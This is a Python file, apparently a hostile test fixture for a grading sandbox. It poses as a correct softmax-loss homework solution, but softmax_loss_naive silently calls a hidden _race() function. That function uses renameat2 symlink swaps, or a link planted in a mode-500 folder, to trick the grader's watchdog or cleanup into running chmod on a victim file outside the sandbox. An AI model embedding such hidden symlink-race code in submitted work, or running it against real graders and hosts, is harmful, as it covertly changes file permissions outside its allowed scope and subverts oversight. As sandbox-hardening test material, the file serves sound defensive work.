"""Hostile: has a grader that is not root change the mode of a file of its user, @VICTIM@, outside the
sandbox (way @WAY@):
- "race": its scratch folder holds a folder of mode 000 and a symbolic link to the file, swapped again
  and again in one step (renameat2 with RENAME_EXCHANGE). The watchdog, which cannot list the folder,
  made it readable with chmod(path, 0o700), which followed the link when the swap came between the two
  calls;
- "read-only": a link to the file in a folder of mode 500. Removing the scratch folder, the grader
  cannot unlink the link, and opened up what it could not remove with chmod, the link included (no race:
  after every process of the child has ended).
Its own functions are right."""
import ctypes
import os
import platform
import time

import numpy as np

RENAMEAT2 = {"x86_64": 316, "aarch64": 276}.get(platform.machine())


def _race():
    if "@WAY@" == "read-only":
        if not os.path.lexists("ro"):
            os.mkdir("ro")
            os.symlink("@VICTIM@", "ro/link")
            os.chmod("ro", 0o500)
        return
    libc = ctypes.CDLL(None, use_errno=True)
    if not os.path.lexists("d"):
        os.mkdir("d", 0)
        os.symlink("@VICTIM@", "s")
    end = time.monotonic() + 2
    while RENAMEAT2 and time.monotonic() < end:
        for _ in range(1000):
            libc.syscall(RENAMEAT2, -100, b"d", -100, b"s", 2)     # AT_FDCWD, RENAME_EXCHANGE
        for path in ("d", "s"):
            if not os.path.islink(path):
                os.chmod(path, 0)


def softmax_loss_naive(W, X, y, reg):
    _race()
    num_train = X.shape[0]
    scores = X.dot(W)
    scores -= scores.max(axis=1, keepdims=True)
    p = np.exp(scores)
    p /= p.sum(axis=1, keepdims=True)
    loss = -np.log(p[np.arange(num_train), y]).mean() + reg * np.sum(W * W)
    p[np.arange(num_train), y] -= 1
    return loss, X.T.dot(p) / num_train + 2 * reg * W


def softmax_loss_vectorized(W, X, y, reg):
    num_train = X.shape[0]
    scores = X.dot(W)
    scores -= scores.max(axis=1, keepdims=True)
    p = np.exp(scores)
    p /= p.sum(axis=1, keepdims=True)
    loss = -np.log(p[np.arange(num_train), y]).mean() + reg * np.sum(W * W)
    p[np.arange(num_train), y] -= 1
    return loss, X.T.dot(p) / num_train + 2 * reg * W
